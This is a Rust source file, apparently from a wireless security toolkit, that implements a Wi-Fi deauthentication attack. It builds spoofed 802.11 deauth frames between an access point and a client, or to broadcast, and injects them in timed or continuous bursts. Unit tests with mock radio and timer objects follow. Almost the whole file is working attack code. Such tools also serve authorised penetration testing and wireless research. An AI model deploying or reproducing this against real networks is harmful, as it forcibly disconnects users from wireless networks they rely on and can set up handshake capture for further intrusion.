//! Deauthentication bursts
//
// https://github.com/rust-iot/rust-shadow
// Copyright 2024 Ryan Kurte

use std::cell::{Cell, RefCell};
use std::rc::Rc;
use std::time::Duration;

use log::{info, warn};

use crate::error::Error;
use crate::frame::{deauth_frame, MacAddr, REASON_CLASS3_FRAME};
use crate::source::Injector;
use crate::timer::Timer;

/// Attack statistics
#[derive(Debug, Clone, PartialEq)]
pub struct DeauthStats {
    pub bssid: MacAddr,
    pub client: Option<MacAddr>,
    pub sent: u64,
    pub started_at: u64,
    pub ended_at: Option<u64>,
}

/// Emits deauthentication frames in cooperative bursts.
///
/// Each iteration sends AP to client and, when a specific client is
/// named, client to AP. The broadcast form only carries the AP to
/// client direction.
pub struct DeauthEmitter<J, T> {
    injector: Rc<RefCell<J>>,
    timer: T,
    running: Rc<Cell<bool>>,
    cancelled: Rc<Cell<bool>>,
    stats: Rc<RefCell<Option<DeauthStats>>>,
}

impl<J, T> Clone for DeauthEmitter<J, T>
where
    T: Clone,
{
    fn clone(&self) -> Self {
        Self {
            injector: self.injector.clone(),
            timer: self.timer.clone(),
            running: self.running.clone(),
            cancelled: self.cancelled.clone(),
            stats: self.stats.clone(),
        }
    }
}

impl<J: Injector + 'static, T: Timer + Clone + 'static> DeauthEmitter<J, T> {
    pub fn new(injector: Rc<RefCell<J>>, timer: T) -> Self {
        Self {
            injector,
            timer,
            running: Rc::new(Cell::new(false)),
            cancelled: Rc::new(Cell::new(false)),
            stats: Rc::new(RefCell::new(None)),
        }
    }

    pub fn stats(&self) -> Option<DeauthStats> {
        self.stats.borrow().clone()
    }

    /// Send one burst, yielding between iterations so cancellation is
    /// observed. Returns the number of frames injected.
    pub async fn burst(
        &self,
        bssid: MacAddr,
        client: Option<MacAddr>,
        count: u32,
        interval: Duration,
    ) -> Result<u64, Error> {
        let dest = client.unwrap_or(MacAddr::BROADCAST);

        self.cancelled.set(false);

        *self.stats.borrow_mut() = Some(DeauthStats {
            bssid,
            client,
            sent: 0,
            started_at: self.timer.ticks_ms(),
            ended_at: None,
        });

        info!("Sending {} deauth bursts: {} -> {}", count, bssid, dest);

        let to_client = deauth_frame(dest, bssid, bssid, REASON_CLASS3_FRAME);
        let to_ap = client.map(|c| deauth_frame(bssid, c, bssid, REASON_CLASS3_FRAME));

        let mut sent = 0u64;

        for i in 0..count {
            if self.cancelled.get() {
                break;
            }

            self.injector.borrow_mut().inject(&to_client)?;
            sent += 1;

            if let Some(frame) = &to_ap {
                self.injector.borrow_mut().inject(frame)?;
                sent += 1;
            }

            self.note_sent(sent);

            if !interval.is_zero() && i + 1 < count {
                tokio::time::sleep(interval).await;
            }
        }

        if let Some(stats) = self.stats.borrow_mut().as_mut() {
            stats.sent = sent;
            stats.ended_at = Some(self.timer.ticks_ms());
        }

        info!("Sent {} deauth frames", sent);

        Ok(sent)
    }

    /// Run bursts every `burst_interval` until stopped
    pub fn start_continuous(
        &self,
        bssid: MacAddr,
        client: Option<MacAddr>,
        count: u32,
        interval: Duration,
        burst_interval: Duration,
    ) {
        if self.running.replace(true) {
            return;
        }

        let emitter = self.clone();
        tokio::task::spawn_local(async move {
            while emitter.running.get() {
                if let Err(e) = emitter.burst(bssid, client, count, interval).await {
                    warn!("Deauth burst failed: {}", e);
                    break;
                }
                tokio::time::sleep(burst_interval).await;
            }
            emitter.running.set(false);
        });
    }

    /// Cancel any in-flight burst and stop a continuous attack
    pub fn stop(&self) {
        self.running.set(false);
        self.cancelled.set(true);

        if let Some(stats) = self.stats.borrow_mut().as_mut() {
            if stats.ended_at.is_none() {
                stats.ended_at = Some(self.timer.ticks_ms());
            }
        }
    }

    fn note_sent(&self, sent: u64) {
        if let Some(stats) = self.stats.borrow_mut().as_mut() {
            stats.sent = sent;
        }
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::frame::Dot11Header;
    use crate::radio::mock::MockInjector;
    use crate::timer::mock::MockTimer;

    fn emitter(injector: &MockInjector) -> DeauthEmitter<MockInjector, MockTimer> {
        DeauthEmitter::new(Rc::new(RefCell::new(injector.clone())), MockTimer::new())
    }

    fn addresses(frame: &[u8]) -> (MacAddr, MacAddr) {
        // Skip the 8 byte injection radiotap header
        let hdr = Dot11Header::decode(&frame[8..]).unwrap();
        (hdr.addr1, hdr.addr2)
    }

    #[tokio::test]
    async fn directed_burst_alternates_directions() {
        let injector = MockInjector::new();
        let emitter = emitter(&injector);

        let ap = MacAddr::parse("aa:bb:cc:dd:ee:01").unwrap();
        let client = MacAddr::parse("11:22:33:44:55:66").unwrap();

        let sent = emitter
            .burst(ap, Some(client), 3, Duration::ZERO)
            .await
            .unwrap();

        assert_eq!(sent, 6);

        let frames = injector.frames();
        assert_eq!(frames.len(), 6);

        for (i, frame) in frames.iter().enumerate() {
            let (dest, source) = addresses(frame);
            if i % 2 == 0 {
                assert_eq!((dest, source), (client, ap));
            } else {
                assert_eq!((dest, source), (ap, client));
            }

            // Reason code 7 on every frame
            assert_eq!(&frame[frame.len() - 2..], &[0x07, 0x00]);
        }

        assert_eq!(emitter.stats().unwrap().sent, 6);
    }

    #[tokio::test]
    async fn broadcast_burst_is_one_directional() {
        let injector = MockInjector::new();
        let emitter = emitter(&injector);

        let ap = MacAddr::parse("aa:bb:cc:dd:ee:01").unwrap();

        let sent = emitter.burst(ap, None, 5, Duration::ZERO).await.unwrap();

        assert_eq!(sent, 5);

        for frame in injector.frames() {
            let (dest, source) = addresses(&frame);
            assert!(dest.is_broadcast());
            assert_eq!(source, ap);
        }
    }

    #[tokio::test(start_paused = true)]
    async fn continuous_stops_on_request() {
        let local = tokio::task::LocalSet::new();

        local
            .run_until(async {
                let injector = MockInjector::new();
                let emitter = emitter(&injector);
                let ap = MacAddr::parse("aa:bb:cc:dd:ee:01").unwrap();

                emitter.start_continuous(
                    ap,
                    None,
                    2,
                    Duration::ZERO,
                    Duration::from_millis(100),
                );

                tokio::time::sleep(Duration::from_millis(350)).await;
                emitter.stop();
                let after_stop = injector.frames().len();

                tokio::time::sleep(Duration::from_millis(500)).await;

                assert!(after_stop >= 4);
                assert_eq!(injector.frames().len(), after_stop);
            })
            .await;
    }
}
